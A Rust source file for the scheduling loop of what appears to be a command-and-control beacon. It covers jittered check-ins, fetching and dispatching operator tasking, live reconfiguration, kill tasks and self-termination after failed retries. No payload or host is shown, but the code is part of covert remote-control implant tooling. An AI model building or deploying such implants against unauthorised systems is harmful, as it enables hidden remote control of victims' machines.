use anyhow::Result;
use rand::SeedableRng;
use rand::rngs::StdRng;
use std::sync::Arc;
use tracing::{debug, info, warn};

use crate::core::config::CallbackConfig;
use crate::core::controller::{CheckIn, Controller};
use crate::core::dispatch::{Dispatcher, Flow};
use crate::core::lifecycle::ExitReason;
use crate::platform::ProcessSource;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BeaconState {
    Sleeping,
    Checking,
    Idle,
    Fetching,
    Terminated(ExitReason),
}

/// The beacon loop. It owns the callback config, so a `reconfig` task takes
/// effect on the very next sleep without any locking.
pub struct Scheduler {
    controller: Arc<dyn Controller>,
    processes: Box<dyn ProcessSource>,
    session: String,
    config: CallbackConfig,
    retries: u32,
    state: BeaconState,
    rng: StdRng,
}

impl Scheduler {
    pub fn new(
        controller: Arc<dyn Controller>,
        processes: Box<dyn ProcessSource>,
        session: String,
        config: CallbackConfig,
    ) -> Self {
        Self {
            controller,
            processes,
            session,
            config,
            retries: 0,
            state: BeaconState::Sleeping,
            rng: StdRng::from_entropy(),
        }
    }

    #[cfg(test)]
    pub fn config(&self) -> &CallbackConfig {
        &self.config
    }

    #[cfg(test)]
    pub fn retries(&self) -> u32 {
        self.retries
    }

    #[cfg(test)]
    pub fn state(&self) -> BeaconState {
        self.state
    }

    /// Sleeps, checks in and handles the outcome until the loop terminates.
    pub async fn run(mut self) -> ExitReason {
        loop {
            self.state = BeaconState::Sleeping;
            let interval = self.config.next_interval(&mut self.rng);
            debug!("Next check-in in {:?}", interval);
            tokio::time::sleep(interval).await;

            if let BeaconState::Terminated(reason) = self.cycle().await {
                return reason;
            }
        }
    }

    /// One check-in and whatever it leads to, without the sleep.
    pub async fn cycle(&mut self) -> BeaconState {
        self.state = BeaconState::Checking;
        let outcome = self.controller.check_in(&self.session).await;
        self.state = self.record_check_in(outcome);

        if self.state == BeaconState::Fetching {
            self.state = self.fetch_and_dispatch().await;
        }
        self.state
    }

    /// Applies the retry policy to one check-in outcome.
    fn record_check_in(&mut self, outcome: Result<CheckIn>) -> BeaconState {
        match outcome {
            Ok(CheckIn::Idle) => {
                self.retries = 0;
                BeaconState::Idle
            }
            Ok(CheckIn::TaskingPending) => BeaconState::Fetching,
            Ok(CheckIn::Unexpected(status)) => {
                self.record_failure(&format!("unexpected status {status}"))
            }
            Err(e) => self.record_failure(&format!("{e:#}")),
        }
    }

    fn record_failure(&mut self, cause: &str) -> BeaconState {
        self.retries += 1;
        warn!(
            "Check-in failed ({}/{}): {}",
            self.retries, self.config.self_terminate, cause
        );
        if self.retries >= self.config.self_terminate {
            BeaconState::Terminated(ExitReason::RetriesExhausted)
        } else {
            BeaconState::Sleeping
        }
    }

    async fn fetch_and_dispatch(&mut self) -> BeaconState {
        let batch = match self.controller.fetch_tasking(&self.session).await {
            Ok(batch) => batch,
            Err(e) => {
                debug!("Skipping tasking cycle: {:#}", e);
                return BeaconState::Sleeping;
            }
        };
        info!("Received {} task(s)", batch.len());

        let dispatcher = Dispatcher::new(self.controller.as_ref(), self.processes.as_ref());
        match dispatcher.dispatch_batch(&batch, &mut self.config).await {
            Flow::Kill => BeaconState::Terminated(ExitReason::KillTask),
            Flow::Continue => BeaconState::Sleeping,
        }
    }
}
